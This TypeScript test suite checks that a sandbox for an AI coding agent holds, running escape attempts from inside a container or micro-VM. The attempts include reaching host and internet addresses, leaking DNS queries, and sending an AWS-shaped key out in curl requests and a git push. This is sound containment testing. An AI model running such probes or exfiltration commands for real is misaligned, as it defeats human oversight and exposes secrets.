/**
 * The escape suite, once per runtime: a real controller runs one Agent on
 * `docker` (a container) and then on `vm` (a QEMU micro-VM), and the same
 * attacks run from inside the box through `bottle exec`, as the agent would
 * make them:
 *   - only the bundle's ports are reachable; no host service on any host
 *     address, no internet address, no DNS;
 *   - an allowed route answers, while an unlisted host and a secret in the
 *     request are refused with the bottle-egress marker, and the origin (a
 *     container on the bundle's egress network, logging every request)
 *     never sees them;
 *   - a route added to the Bottle file answers in under 1 s and the box is
 *     the same box (same container id, same QEMU pid);
 *   - a push carrying a secret is refused by the git gate and upstream is
 *     unchanged; a clean push lands;
 *   - a route proposed through supervise and approved answers.
 * Every refusal has a control that succeeds the same way.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { networkInterfaces, tmpdir } from 'node:os'
import { join } from 'node:path'
import Dockerode from 'dockerode'
import { execa } from 'execa'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { packageRoot } from '../../../controller/package-root.js'
import { DockerImageStore } from '../../../controller/runtime/docker/image-store.js'
import { dockerNames, runtimeOwner } from '../../../controller/runtime/docker/names.js'
import { dockerHostAddress } from '../../../scripts/lib/docker-host-address.js'
import { ControllerProcess, isReady, removeInstance, sleep, uniqueInstance } from '../../helpers/controller-process.js'
import { startEgressOrigin, type EgressOrigin } from '../../helpers/egress-origin.js'
import { startHostListeners, type HostListeners } from '../../helpers/host-listeners.js'
import { bundleBoxClient } from '../../helpers/supervise-client.js'
import { runCli } from '../../helpers/run-cli.js'
import { TempFolder } from '../../helpers/temp-folder.js'
import { removeRun, uniqueRun } from '../sidecars/git-gate/support/containers.js'
import { generateIdentity } from '../sidecars/git-gate/support/gate-config.js'
import { startSshUpstream, UPSTREAM_PORT, UPSTREAM_REPO, type SshUpstream } from '../sidecars/git-gate/support/ssh-upstream.js'

const docker = new Dockerode()
const AGENT = 'esc'
const ORIGIN_HOST = 'docs.origin.test'
const UNLISTED_HOST = 'other.origin.test'
const LATER_HOST = 'later.origin.test'
const PROPOSED_HOST = 'proposed.origin.test'
// An AWS-shaped key id, assembled at run time so this file holds none.
const LEAK = ['AKIA', 'Q3XM7RZ2P6N4KW5B'].join('')
const BUNDLE = [
  { name: 'egress', port: 8888 },
  { name: 'git-gate', port: 9420 },
  { name: 'supervise', port: 9100 },
]

const bottle = (runtime: string, allowPrivate: string, upstream: string, hostKey: string, identity: string, extraRoutes: string[] = []) => `apiVersion: bottle.dev/v1alpha1
kind: Bottle
metadata: {name: dev}
spec:
  runtime: ${runtime}
  egress:
    routes:
      - host: ${ORIGIN_HOST}
${extraRoutes.map((host) => `      - host: ${host}\n`).join('')}    allowPrivate: [${allowPrivate}]
  supervise: {enabled: true}
  git:
    user: {name: Agent Esc, email: esc@example.com}
    remotes:
      - name: app
        upstream: ${upstream}
        identityFile: ${identity}
        knownHostKey: "${hostKey}"
`
const agentSpec = `apiVersion: bottle.dev/v1alpha1\nkind: Agent\nmetadata: {name: ${AGENT}}\nspec:\n  bottle: dev\n  workspace: {remote: app, ref: main}\n`

function hostIPv4Addresses(): string[] {
  return Object.values(networkInterfaces())
    .flat()
    .filter((a) => a !== undefined && a.family === 'IPv4' && !a.internal)
    .map((a) => a!.address)
}

/** The MCP SDK client, bundled to one file and copied into the box: it calls supervise's tools at the URL the entrypoint registered. */
const CLIENT_SOURCE = `
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
const [calls] = process.argv.slice(2)
const client = new Client({ name: 'agent-in-the-box', version: '1.0.0' })
await client.connect(new StreamableHTTPClientTransport(new URL('http://supervise:9100/mcp')))
const results = []
for (const call of JSON.parse(calls)) results.push(await client.callTool(call))
await client.close()
process.stdout.write(JSON.stringify(results) + '\\n')
`

for (const runtime of ['docker', 'vm'] as const) {
  describe(`the escape suite on runtime ${runtime}`, () => {
    const instance = uniqueInstance(runtime === 'vm' ? 'escv' : 'escd')
    const run = uniqueRun(`esc${runtime}`)
    const owner = runtimeOwner(instance, runtime)
    const names = dockerNames(owner, AGENT)
    let specs: TempFolder
    let state: TempFolder
    let controller: ControllerProcess
    let upstream: SshUpstream
    let origin: EgressOrigin | undefined
    let subnet = ''
    let listeners: HostListeners
    let writeBottle: (extra?: string[]) => Promise<void>

    /** The built CLI as a child process, for what needs its standard input: `bottle <command> --instance --state-dir <rest>`. */
    const bottleCli = ([command, ...rest]: string[], input?: string) =>
      execa(process.execPath, [join(packageRoot(), 'bin/bottle.js'), command!, '--instance', instance, '--state-dir', state.path, ...rest], { reject: false, timeout: 120_000, ...(input === undefined ? {} : { input }) })
    /** A shell script in the box, as the agent (the CLI in-process: no node start per call). */
    const inBox = async (script: string): Promise<{ exitCode: number; stdout: string; stderr: string }> => {
      const result = await within(120_000, `bottle exec ${script.slice(0, 60)}`, runCli(['exec', AGENT, '--instance', instance, '--state-dir', state.path, '--', 'sh', '-c', script]))
      return { exitCode: result.code, stdout: result.stdout, stderr: result.stderr }
    }
    const curl = (url: string, extra = '') => inBox(`curl -sS --max-time 10 ${extra} '${url}'; echo " exit=$?"`)
    const tcp = async (host: string, port: number): Promise<string> => {
      const script = `require('net').connect({ host: ${JSON.stringify(host)}, port: ${port}, timeout: 3000 }).on('connect', () => { console.log('connected'); process.exit(0) }).on('timeout', () => { console.log('ETIMEDOUT'); process.exit(1) }).on('error', (e) => { console.log(e.code); process.exit(1) })`
      return (await bottleCli(['exec', AGENT, '-i', '--', 'node', '-'], script)).stdout.trim()
    }
    /** What identifies the box: a container's id, a VM's QEMU pid. */
    const boxIdentity = async (): Promise<string> =>
      runtime === 'docker'
        ? (await docker.getContainer(names.agent).inspect()).Id
        : readFileSync(join(state.path, instance, 'vm', AGENT, 'q', 'qemu.pid'), 'utf8').trim()

    beforeAll(async () => {
      const base = await new DockerImageStore({ logger: pino({ level: 'warn' }) }).ensureBase()
      const identity = generateIdentity(mkdtempSync(join(tmpdir(), 'bottle-esc-id-')))
      upstream = await startSshUpstream({ run, name: `${run}-upstream`, image: base, network: 'host', alias: 'upstream', publicKey: identity.publicKey })
      const gitHost = await dockerHostAddress()
      const upstreamUrl = `ssh://git@${gitHost}:${UPSTREAM_PORT}${UPSTREAM_REPO}`

      listeners = await startHostListeners()

      specs = await TempFolder.create('bottle-esc-specs-')
      state = await TempFolder.create('bottle-esc-')
      writeBottle = async (extra = []) => {
        await specs.write('bottles/dev.yaml', bottle(runtime, subnet || '192.0.2.1/32', upstreamUrl, upstream.hostKey, identity.privateKey, extra))
      }
      await writeBottle()
      await specs.write('agents/esc.yaml', agentSpec)
      controller = new ControllerProcess(specs, state, instance)
      controller.start()
      await controller.waitForStatus('agents/esc.yaml', AGENT, isReady, 900_000)

      const network = await docker.getNetwork(names.egressNetwork).inspect()
      subnet = (network.IPAM?.Config?.[0] as { Subnet?: string } | undefined)?.Subnet ?? ''
      expect(subnet).toMatch(/^\d+\.\d+\.\d+\.\d+\/\d+$/)
      origin = await startEgressOrigin(docker, {
        network: names.egressNetwork,
        aliases: [ORIGIN_HOST, UNLISTED_HOST, LATER_HOST, PROPOSED_HOST],
        image: (await docker.getContainer(names.sidecars).inspect()).Config.Image,
        label: { 'bottle.test.escape': instance },
      })
      await writeBottle()
      // The entrypoint marks when the box is set up (CA trusted, workspace cloned, MCP registered).
      const marked = await inBox('for i in $(seq 600); do [ -f /run/bottle-agent-ready ] && exit 0; sleep 0.1; done; exit 1')
      expect(marked.exitCode).toBe(0)
      // The route to the origin answers once the bundle has the new allowPrivate.
      const deadline = Date.now() + 30_000
      while (!(await curl(`http://${ORIGIN_HOST}/ready`)).stdout.startsWith('origin ')) {
        if (Date.now() > deadline) throw new Error('the origin never answered through the bundle')
        await sleep(300)
      }
    }, 1_200_000)

    afterAll(async () => {
      await controller?.stop()
      if (process.env.BOTTLE_TEST_KEEP_LOG) writeFileSync(`${process.env.BOTTLE_TEST_KEEP_LOG}.${runtime}`, controller?.output ?? '')
      if (runtime === 'vm') {
        // The controller leaves boxes running when it stops; what a delete would do, done directly.
        const pid = (() => {
          try {
            return Number(readFileSync(join(state.path, instance, 'vm', AGENT, 'q', 'qemu.pid'), 'utf8'))
          } catch {
            return 0
          }
        })()
        if (pid > 0) {
          try {
            process.kill(pid, 'SIGKILL')
          } catch {
            // gone already
          }
        }
      }
      await origin?.container.remove({ force: true }).catch(() => undefined)
      await removeInstance(docker, owner)
      await removeRun(run)
      await listeners?.close()
      await specs?.dispose()
      await state?.dispose()
    })

    it('its status names the runtime, and for a VM what walls it in', async () => {
      const status = await controller.status('agents/esc.yaml', AGENT)
      expect(status?.runtime?.driver).toBe(runtime)
      if (runtime === 'vm') expect(status?.runtime?.agent?.isolation).toMatch(/^micro-VM, (KVM|TCG emulation)/)
      else expect(status?.runtime?.agent?.isolation).toBeUndefined()
    })

    it('reaches its bundle\'s ports, and no other port of the bundle', async () => {
      for (const { name, port } of BUNDLE) expect(await tcp(name, port), `${name}:${port}`).toBe('connected')
      for (const port of [22, 80, 2375]) expect(await tcp('egress', port), `egress:${port}`).not.toBe('connected')
    })

    it('reaches no host service on any host address', async () => {
      const gateways = await Promise.all([names.internalNetwork, names.egressNetwork].map(async (n) => (await docker.getNetwork(n).inspect()).IPAM?.Config?.[0]?.Gateway ?? ''))
      // 10.0.2.2 is where QEMU's user network puts the host for a guest that is allowed to reach it.
      const targets = [...new Set([...gateways.filter(Boolean), ...hostIPv4Addresses(), '10.0.2.2', '172.17.0.1'])]
      const outcomes = await Promise.all(targets.map(async (address) => `${address} ${await tcp(address, listeners.httpPort)}`))
      expect(outcomes.filter((o) => o.endsWith(' connected'))).toEqual([])
      expect(listeners.httpPeers).toEqual([])
      // Control: the host listener does answer, from the bundle, on the egress network's gateway.
      const control = await bottleCli(['exec', AGENT, '--sidecars', '--', 'curl', '-sS', '--max-time', '5', `http://${gateways[1]}:${listeners.httpPort}/`])
      expect(control.stdout).toBe('host')
    })

    it('reaches no internet address', async () => {
      for (const [host, port] of [['1.1.1.1', 443], ['8.8.8.8', 53]] as const) expect(await tcp(host, port), `${host}:${port}`).not.toBe('connected')
    })

    it('resolves its bundle\'s names and nothing else, and no lookup reaches the host', async () => {
      expect((await inBox('getent hosts egress')).exitCode).toBe(0)
      const outside = await inBox('getent hosts example.com')
      expect(outside.exitCode).not.toBe(0)
      const direct = await inBox(`node -e "const r = new (require('dns').promises.Resolver)({ timeout: 1500, tries: 1 }); r.setServers(['10.0.2.3', '8.8.8.8']); r.resolve4('leak-${instance}.example.com').then((a) => console.log('resolved ' + a), (e) => console.log(e.code))"`)
      expect(direct.stdout).not.toMatch(/resolved/)
      expect(listeners.dnsPeers).toEqual([])
    })

    it('egress: an allowed route answers; an unlisted host and a secret are refused with the marker and never reach the origin', async () => {
      const allowed = await curl(`http://${ORIGIN_HOST}/allowed`)
      expect(allowed.stdout).toBe(`origin ${ORIGIN_HOST}/allowed: hello\n exit=0\n`)
      const unlisted = await curl(`http://${UNLISTED_HOST}/unlisted`)
      expect(unlisted.stdout).toMatch(/^bottle-egress:/)
      const secret = await curl(`http://${ORIGIN_HOST}/q?key=${LEAK}`)
      expect(secret.stdout).toMatch(/^bottle-egress:/)
      const inBody = await curl(`http://${ORIGIN_HOST}/body`, `-X POST --data 'aws_access_key_id=${LEAK}'`)
      expect(inBody.stdout).toMatch(/^bottle-egress:/)
      const seen = await origin!.seen()
      expect(seen).toContain(`seen ${ORIGIN_HOST}/allowed`)
      expect(seen).not.toContain('/unlisted')
      expect(seen).not.toContain(LEAK)
      expect(seen).not.toContain('/body')
    })

    it('a route added to the Bottle answers in under 1 s, in the same box', async () => {
      const before = await boxIdentity()
      expect((await curl(`http://${LATER_HOST}/x`)).stdout).toMatch(/^bottle-egress:/)
      // Poll from inside the box with one node process (a process started per try costs
      // hundreds of ms in an emulated guest), started before the edit; it prints the
      // box's clock at the first answer.
      const poll = inBox(`node - <<'EOF'
const http = require('http')
const end = Date.now() + 60000
const retry = () => (Date.now() > end ? process.exit(1) : setTimeout(attempt, 20))
function attempt() {
  const request = http.request({ host: 'egress', port: 8888, path: 'http://${LATER_HOST}/later', headers: { host: '${LATER_HOST}' }, timeout: 2000 }, (response) => {
    response.resume()
    if (response.statusCode === 200) { console.log(Date.now()); process.exit(0) }
    retry()
  })
  request.on('timeout', () => request.destroy())
  request.on('error', retry)
  request.end()
}
attempt()
EOF`)
      await sleep(1500)
      const skew = await clockSkew()
      await writeBottle([LATER_HOST])
      const editedAt = Date.now()
      const answered = await poll
      expect(answered.exitCode).toBe(0)
      const latencyMs = Number(answered.stdout.trim()) - skew - editedAt
      process.stdout.write(`${runtime}: route answered ${latencyMs} ms after the Bottle file was written\n`)
      expect(latencyMs).toBeLessThan(1000)
      expect(await boxIdentity()).toBe(before)
    })

    it('the git gate lands a clean push and refuses one carrying a secret', async () => {
      const clean = await inBox('cd ~/workspace && echo hello > hello.txt && git add hello.txt && git commit -qm "add hello" && git push -q origin HEAD:main 2>&1; echo "exit=$?"')
      expect(clean.stdout).toContain('exit=0')
      const before = await upstream.revParse('main')
      const pushed = await inBox(`cd ~/workspace && mkdir -p src && printf 'export const key = "${LEAK}"\\n' > src/config.ts && git add src && git commit -qm "config" && git push origin HEAD:main 2>&1; echo "exit=$?"`)
      expect(pushed.stdout).toMatch(/bottle-git-gate: refused push: src\/config\.ts:1: aws-access-key-id/)
      expect(pushed.stdout).toContain('exit=1')
      expect(await upstream.revParse('main')).toBe(before)
    })

    it('a route proposed through supervise and approved answers, in the same box', async () => {
      const before = await boxIdentity()
      const client = await bundleBoxClient(CLIENT_SOURCE)
      expect((await bottleCli(['exec', AGENT, '-i', '--', 'sh', '-c', 'cat > /tmp/supervise-client.mjs'], client)).exitCode).toBe(0)
      const proposed = await inBox(`node /tmp/supervise-client.mjs '${JSON.stringify([{ name: 'propose-egress-route', arguments: { host: PROPOSED_HOST, reason: 'the build reads it' } }])}'`)
      expect(proposed.stderr).toBe('')
      const [result] = JSON.parse(proposed.stdout) as Array<{ isError?: boolean; structuredContent?: { id?: string } }>
      expect(result?.isError).toBeFalsy()
      const id = result?.structuredContent?.id
      expect(id).toMatch(/^esc-\d+$/)
      const deadline = Date.now() + 15_000
      while ((await specs.readOptional(`proposals/${id}.yaml`)) === undefined) {
        if (Date.now() > deadline) throw new Error('the proposal file never appeared')
        await sleep(100)
      }
      expect((await curl(`http://${PROPOSED_HOST}/p`)).stdout).toMatch(/^bottle-egress:/)
      const approved = await execa(process.execPath, [join(packageRoot(), 'bin/bottle.js'), 'approve', id!, '--dir', specs.path], { reject: false })
      expect(approved.exitCode).toBe(0)
      const until = Date.now() + 10_000
      let answer = await curl(`http://${PROPOSED_HOST}/p`)
      while (!answer.stdout.startsWith('origin ') && Date.now() < until) {
        await sleep(100)
        answer = await curl(`http://${PROPOSED_HOST}/p`)
      }
      expect(answer.stdout).toBe(`origin ${PROPOSED_HOST}/p: hello\n exit=0\n`)
      expect(await boxIdentity()).toBe(before)
    })

    // A container's heal is tested in controller-on-docker; this is the VM's.
    if (runtime === 'vm') it('a VM killed with kill -9 is healed, its workspace intact', async () => {
      expect((await inBox('echo kept > ~/workspace/before-the-kill.txt && sync')).exitCode).toBe(0)
      const before = await boxIdentity()
      const startedBefore = (await controller.status('agents/esc.yaml', AGENT))?.runtime?.agent?.startedAt
      expect(startedBefore).toBeDefined()
      const killedAt = Date.now()
      process.kill(Number(before), 'SIGKILL')
      // Healed: the status says a new start, running and Ready.
      const healed = await controller.waitForStatus('agents/esc.yaml', AGENT, (s) => isReady(s) && s.runtime?.agent?.state === 'running' && s.runtime.agent.startedAt !== startedBefore, 180_000)
      process.stdout.write(`vm: healed and Ready ${Date.now() - killedAt} ms after kill -9 of QEMU\n`)
      expect(healed.runtime?.agent?.startedAt).not.toBe(startedBefore)
      expect(await boxIdentity()).not.toBe(before)
      const kept = await inBox('cat ~/workspace/before-the-kill.txt')
      expect(kept.stderr).toBe('')
      expect(kept.stdout).toBe('kept\n')
    })

    /**
     * The box's clock minus the host's, in ms. The box reads its clock at
     * the very end of the exec, so taking the host's at the exec's return
     * errs by the return trip only, and on the side that makes a measured
     * latency longer, never shorter.
     */
    async function clockSkew(): Promise<number> {
      if (runtime === 'docker') return 0
      const box = Number((await inBox('date +%s%3N')).stdout.trim())
      return box - Date.now()
    }
  })
}

/** `promise`, or a failure that names what never finished. */
async function within<T>(ms: number, what: string, promise: Promise<T>): Promise<T> {
  let timer: NodeJS.Timeout | undefined
  try {
    return await Promise.race([promise, new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`${what}: no answer in ${ms} ms`)), ms)))])
  } finally {
    clearTimeout(timer)
  }
}
